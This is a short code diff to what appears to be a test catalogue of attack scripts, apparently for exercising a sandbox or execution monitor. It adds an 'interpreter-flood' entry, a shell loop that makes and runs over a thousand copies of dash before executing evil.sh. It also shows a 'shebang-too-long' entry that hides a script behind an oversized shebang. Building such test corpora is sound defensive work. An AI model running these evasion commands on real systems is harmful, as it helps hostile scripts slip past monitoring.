@@ -39,6 +39,13 @@ export const scripts: readonly Attack[] = [
     signs,
   },
   {
+    name: "interpreter-flood",
+    does: "runs more copies of an interpreter than anybody remembers, then hands the real one a script",
+    run: "i=0; while [ $i -lt 1100 ]; do cp /bin/dash $P/d$i; $P/d$i -c :; : > $P/d$i; i=$((i+1)); done; dash $P/evil.sh",
+    needs: ["coreutils"],
+    signs: given,
+  },
+  {
     name: "shebang-too-long",
     does: "names an interpreter that is longer than the kernel reads: the shell runs it by itself",
     run: "{ printf '#!/%0400d\\n' 0; cat $P/evil.sh; } > $P/long; chmod 755 $P/long; $P/long",
